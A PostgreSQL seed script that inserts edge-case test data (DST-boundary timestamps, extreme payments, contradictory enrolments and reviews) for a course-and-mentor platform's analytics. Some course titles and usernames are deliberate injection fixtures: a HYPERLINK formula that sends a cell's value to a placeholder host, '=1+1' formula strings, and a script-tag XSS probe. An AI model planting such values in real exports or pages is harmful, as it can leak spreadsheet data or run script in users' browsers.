-- The rows on which analytics go wrong: rare in what was drawn, so some of each are put in by hand.
-- They lie on the founders (users 1 to 20, mentors 1 to 5), who are there for any number of users.

UPDATE courses SET title = awkward.title
FROM (
    VALUES
        (2, '=HYPERLINK("https://example.com/?x="&A1;"Бесплатный курс")'),
        (3, '+7 шагов к Python'),
        (4, '-10 % стресса, +20 % сна'),
        (5, '@home: удалённая работа'),
        (6, 'Курс «Кавычки», "двойные", ''одинарные''; и \обратная черта'),
        (7, '🚀 Данные, часть 1 👩🏽‍💻'),
        (8, E'Первая строка\nвторая,\tс табуляцией'),
        (9, '<script>alert("Курс")</script> & <b>HTML</b>'),
        (10, E'\t=1+1'),
        (11, rpad('Очень длинное название ', 255, 'и так далее '))
) AS awkward (id, title)
WHERE courses.id = awkward.id;

UPDATE users SET username = awkward.username
FROM (
    VALUES
        (11, '=1+1'),
        (12, '+7(000)0000000'),
        (13, '@anna'),
        (14, '-маша-'),
        (15, 'Пётр "Щука", мл.'),
        (16, '🦊')
) AS awkward (id, username)
WHERE users.id = awkward.id;

-- An admin who mentors, in place of a mentor who is left without a profile; a mentor who was made a
-- student again; a mentor and a student who left.
UPDATE mentors SET user_id = 4 WHERE id = 2;
UPDATE reviews SET reviewed_id = 4 WHERE reviewed_id = 7;
UPDATE users SET role = 'STUDENT' WHERE id = 9;
UPDATE users SET is_active = false WHERE id IN (8, 18);

-- The instants at which a window of 1, 7, 30 or 365 days begins somewhere, at which clocks change,
-- and at which the days of those changes begin and end; and the microsecond before each.
CREATE TEMP TABLE demo_edge ON COMMIT DROP AS
WITH zone (name) AS (
    VALUES ('UTC'), ('Europe/Moscow'), ('America/New_York'), ('Australia/Lord_Howe')
),
change AS (
    SELECT name, at
    FROM demo
    CROSS JOIN zone
    CROSS JOIN generate_series(
        date_trunc('hour', to_timestamp(since)), to_timestamp(until), '30 min'
    ) AS at
    WHERE at AT TIME ZONE name - (at - interval '30 min') AT TIME ZONE name <> interval '30 min'
),
edge AS (
    SELECT (date_trunc('day', to_timestamp(until) AT TIME ZONE name) - days) AT TIME ZONE name AS at
    FROM demo, zone, unnest('{0, 6 days, 29 days, 364 days}'::interval[]) AS days
    UNION
    SELECT (date_trunc('day', at AT TIME ZONE name) + days) AT TIME ZONE name
    FROM change, unnest('{0, 1 day}'::interval[]) AS days
    UNION
    SELECT at FROM change
)
SELECT row_number() OVER (ORDER BY at - before) AS number, at - before AS at
FROM demo, edge, unnest('{0, 1 microsecond}'::interval[]) AS before
WHERE at > to_timestamp(since + 86400) AND at <= to_timestamp(until);

-- Students who do nothing are moved there, so that nobody's rows are older than himself.
UPDATE users SET created_at = at, updated_at = at
FROM demo_edge
JOIN (
    SELECT id, row_number() OVER (ORDER BY id) AS number
    FROM demo_user
    WHERE quiet AND id > 20 AND id NOT IN (SELECT user_id FROM mentors)
) AS quiet USING (number)
WHERE users.id = quiet.id;

-- Each of these is a session and its payment: on every edge; of every status and currency; by a
-- mentor with himself, of no length, this very moment; and, imported from an older system, from
-- before the student had joined: with the largest and the smallest amount, and at the epoch.
CREATE TEMP TABLE demo_awkward ON COMMIT DROP AS
SELECT
    row_number() OVER (
        ORDER BY at, session_status, payment_status, currency, student_id, mentor_id
    ) AS number,
    awkward.*
FROM (
    SELECT
        at, 11 + number % 5 AS student_id, 1 + number % 4 AS mentor_id, 45 AS minutes,
        'COMPLETED'::sessionstatus AS session_status,
        150050 AS amount, 'RUB' AS currency, 'COMPLETED'::paymentstatus AS payment_status
    FROM demo_edge
    UNION ALL
    SELECT to_timestamp(until - 60), 12, 1, 60, status, 200000, 'RUB', 'PENDING'
    FROM demo, unnest(enum_range(NULL::sessionstatus)) AS status
    UNION ALL
    SELECT to_timestamp(until - 3600), 12, 1, 60, 'COMPLETED', 99999, currency, status
    FROM demo, unnest(enum_range(NULL::paymentstatus)) AS status,
        unnest('{RUB, USD, EUR, KZT}'::text[]) AS currency
    UNION ALL
    SELECT to_timestamp(until), 4, 2, 0, 'NO_SHOW', 0, 'RUB', 'FAILED' FROM demo
    UNION ALL
    SELECT to_timestamp(until - 800 * 86400), 13, 1, 60, 'COMPLETED', 1, 'RUB', 'COMPLETED'
    FROM demo
    UNION ALL
    SELECT
        to_timestamp(until - 1500 * 86400), 13, 1, 600, 'COMPLETED', 2147483647, 'KZT', 'COMPLETED'
    FROM demo
    UNION ALL
    SELECT to_timestamp(0), 13, 1, 60, 'COMPLETED', 5000, 'RUB', 'REFUNDED'
) AS awkward;

INSERT INTO sessions (
    id, student_id, mentor_id, scheduled_at, duration_minutes, status, created_at, updated_at
)
SELECT
    5 * users + number, student_id, mentor_id, at AT TIME ZONE 'UTC', minutes, session_status,
    at, at
FROM demo, demo_awkward;

INSERT INTO payments (
    id, student_id, mentor_id, session_id, amount, currency, status, created_at, updated_at
)
SELECT
    5 * users / 2 + number, student_id, mentor_id, 5 * users + number, amount, currency,
    payment_status, at, at
FROM demo, demo_awkward;

-- Contradictions between percent, flag and date, and one from before the user had joined; by the
-- admins, who never draw an enrolment that could be in the way.
INSERT INTO course_enrollments (
    id, user_id, course_id, progress_percent, completed, completed_at, created_at, updated_at
)
SELECT
    4 * users + awkward.id, user_id, course_id, progress_percent, completed,
    to_timestamp(completed_at) AT TIME ZONE 'UTC', to_timestamp(created_at),
    to_timestamp(created_at)
FROM demo
CROSS JOIN LATERAL (
    VALUES
        (1, 1, 1, 40, true, NULL, until - 86400),
        (2, 1, 2, 100, false, NULL, until - 86400),
        (3, 2, 1, 100, true, NULL, until - 86400),
        (4, 2, 2, 70, false, until - 3600, until - 86400),
        (5, 5, 1, 33, false, NULL, until - 900 * 86400)
) AS awkward (id, user_id, course_id, progress_percent, completed, completed_at, created_at);

-- A lesson read without enrolment, a course opened without a lesson, and that in both at once.
INSERT INTO progress (
    id, user_id, course_id, lesson_id, progress_percent, completed, created_at, updated_at
)
SELECT
    32 * users + 100 + awkward.id, user_id, course_id, lesson_id, progress_percent,
    progress_percent = 100, to_timestamp(until - 7200), to_timestamp(until - 7200)
FROM demo
CROSS JOIN LATERAL (
    VALUES (1, 3, 1, 1, 100), (2, 11, 12, NULL, 0), (3, 17, 11, NULL, 50)
) AS awkward (id, user_id, course_id, lesson_id, progress_percent);

-- Of a course that never was, of nothing, of a mentor and his course at once, of oneself, and older
-- than the writer.
INSERT INTO reviews (id, user_id, reviewed_id, course_id, rating, created_at, updated_at)
SELECT
    (SELECT max(id) FROM reviews) + awkward.id, user_id, reviewed_id, course_id, rating,
    to_timestamp(created_at), to_timestamp(created_at)
FROM demo
CROSS JOIN LATERAL (
    VALUES
        (1, 11, NULL, -1, 1, until - 3600),
        (2, 12, NULL, NULL, 2, until - 3600),
        (3, 13, 6, 1, 3, until - 3600),
        (4, 6, 6, NULL, 5, until - 3600),
        (5, 13, 6, NULL, 5, until - 1000 * 86400)
) AS awkward (id, user_id, reviewed_id, course_id, rating, created_at);
